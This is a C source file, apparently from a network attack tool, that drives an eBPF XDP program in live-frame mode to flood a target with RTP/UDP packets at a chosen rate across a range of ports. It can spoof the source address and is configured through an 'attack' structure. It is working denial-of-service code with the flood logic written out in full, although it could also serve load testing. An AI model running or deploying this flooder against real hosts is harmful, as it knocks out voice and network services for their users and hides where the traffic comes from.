/* SPDX-License-Identifier: GPL-2.0-or-later */
/* See flood.h. A run of live frames costs some 20 ms whatever it sends, so what is due is sent in
 * runs of thousands. */
#include "flood.h"

#include <errno.h>
#include <net/if.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <bpf/bpf.h>
#include <bpf/libbpf.h>
#include <attack.skel.h>
#include <base/endpoint.h>

#define FRAME	  214 /* G.711, 20 ms: Ethernet, IPv4, UDP, RTP, 160 bytes */
#define LEAST_RUN 1024

static double seconds_now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void configure(struct attack_bpf *bpf, const struct attack *a, uint32_t ifindex)
{
	bpf->rodata->out = ifindex;
	bpf->rodata->saddr = a->from.addr.word[3];
	bpf->rodata->sport = a->from.port;
	bpf->rodata->daddr = a->to.addr.word[3];
	bpf->rodata->first_port = endpoint_port(&a->to);
	bpf->rodata->ports = a->ports;
	bpf->rodata->step = a->step;
	bpf->rodata->spoof = a->spoof;
	memcpy((void *)bpf->rodata->dmac, a->mac, sizeof(a->mac));
}

static int run(const struct attack_bpf *bpf, uint32_t ifindex, uint32_t packets)
{
	char frame[FRAME] = {0};
	struct xdp_md ctx = {.data_end = sizeof(frame), .ingress_ifindex = ifindex};
	LIBBPF_OPTS(bpf_test_run_opts, opts, .data_in = frame, .data_size_in = sizeof(frame),
		    .ctx_in = &ctx, .ctx_size_in = sizeof(ctx), .repeat = (int)packets,
		    .flags = BPF_F_TEST_XDP_LIVE_FRAMES, .batch_size = 64);
	int err = bpf_prog_test_run_opts(bpf_program__fd(bpf->progs.generate), &opts);

	return err == -EINTR ? 0 : err;
}

static int send_all(const struct attack_bpf *bpf, const struct attack *a, uint32_t ifindex,
		    const volatile bool *stop, struct attack_result *result)
{
	const struct timespec nap = {.tv_nsec = 2000000};
	double began = seconds_now(), elapsed = 0;
	int err = 0;

	for (; !*stop && !err && (a->seconds <= 0 || elapsed < a->seconds) &&
	       (!a->count || result->sent < a->count);
	     elapsed = seconds_now() - began) {
		double due = a->pps * elapsed - (double)result->sent;

		if (a->count && due > (double)(a->count - result->sent))
			due = (double)(a->count - result->sent);
		if (due < LEAST_RUN && !(a->count && due >= 1 && a->count < LEAST_RUN)) {
			nanosleep(&nap, NULL);
			continue;
		}
		err = run(bpf, ifindex, (uint32_t)due);
		result->sent += (uint64_t)due;
	}
	return err;
}

int flood_run(const struct attack *a, const volatile bool *stop, struct attack_result *result)
{
	uint32_t ifindex = if_nametoindex(a->interface);
	struct attack_bpf *bpf = attack_bpf__open();
	int err;

	if (!bpf)
		return -ENOMEM;
	configure(bpf, a, ifindex);
	err = ifindex ? attack_bpf__load(bpf) : -ENODEV;
	if (!err) {
		fputs("ready\n", stderr);
		err = send_all(bpf, a, ifindex, stop, result);
	}
	attack_bpf__destroy(bpf);
	return err;
}
